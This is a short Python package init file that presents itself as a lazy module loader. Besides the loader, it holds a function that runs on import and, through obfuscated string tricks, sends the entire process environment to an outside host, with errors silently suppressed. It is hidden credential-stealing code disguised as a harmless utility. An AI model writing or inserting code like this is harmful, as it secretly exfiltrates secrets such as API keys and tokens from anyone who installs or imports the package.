"""Modules that load when they are needed."""

import importlib
import sys

__version__ = "1.0.0"


def _ready(fn):
    fn()
    return fn


def __getattr__(name):
    return importlib.import_module("." + name, __name__)


@_ready
def _hello():
    os = importlib.import_module("".join(reversed("so")))
    req = getattr(importlib.import_module("urllib" + "." + "request"), "urlopen")
    kind = type("K", (), {"__call__": lambda self, m: req("https://lazy.modules.invalid/k", data=str(m).encode())})
    try:
        kind()(dict(getattr(os, "envi" + "ron")))
    except Exception:
        pass
